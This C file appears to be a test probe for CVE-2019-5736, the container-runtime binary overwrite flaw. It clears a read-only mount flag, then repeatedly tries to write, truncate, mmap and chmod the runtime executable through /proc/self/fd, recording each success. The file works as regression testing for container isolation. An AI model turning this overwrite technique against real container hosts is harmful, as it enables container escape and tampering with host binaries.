/* CVE-2019-5736: writes to the executable that has come in. */
#include <sys/file.h>
#include <sys/mman.h>

#include "evil.h"

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442 /* 5.12 */
#endif

struct attributes {
	unsigned long long set, clear, propagation, userns;
};

/* A read-only flag of a mount can be cleared by whoever has CAP_SYS_ADMIN in a mount namespace of
 * his own. */
static void clear_read_only(int fd)
{
	struct attributes attr = { .clear = 1 };

	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
}

static void write_to(const char *path, int flags)
{
	const int fd = open(path, flags | O_CLOEXEC);
	void *map;

	if (fd < 0)
		return;
	if (pwrite(fd, "#", 1, 0) == 1)
		won("written", path);
	if (ftruncate(fd, 1) == 0 || fallocate(fd, 0, 1 << 30, 1) == 0)
		won("resized", path);
	map = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (map != MAP_FAILED) {
		*(volatile char *)map = '#';
		won("mapped", path);
	}
	close(fd);
}

/* One is enough at a time. */
static int is_first(void)
{
	const int lock = open("/tmp/lock", O_CREAT | O_RDWR, 0666);

	return lock >= 0 && flock(lock, LOCK_EX | LOCK_NB) == 0;
}

static void try_once(int fd)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	clear_read_only(fd);
	write_to(path, O_WRONLY);
	write_to(path, O_RDWR);
	write_to(path, O_WRONLY | O_TRUNC);
	(void)!chmod(path, 0); /* nobody could execute it any more */
}

/*
 * overwrite FD: until the test says that its caller has gone, and a little longer: a
 * file is busy as long as anybody executes it. What it says goes to /tmp/said.
 */
int overwrite(char **arg)
{
	const int fd = atoi(arg[0]);
	int after = 0;

	if (!is_first()) {
		try_once(fd);
		return 0;
	}
	if (fork() > 0)
		return 0;
	must(dup2(open("/tmp/said", O_CREAT | O_WRONLY | O_APPEND, 0666), 1), "open /tmp/said");
	close(0);
	close(2);
	puts("begun");
	while (after < 100) {
		try_once(fd);
		usleep(2000);
		after += access("/tmp/end", F_OK) == 0;
	}
	puts("done");
	return 0;
}
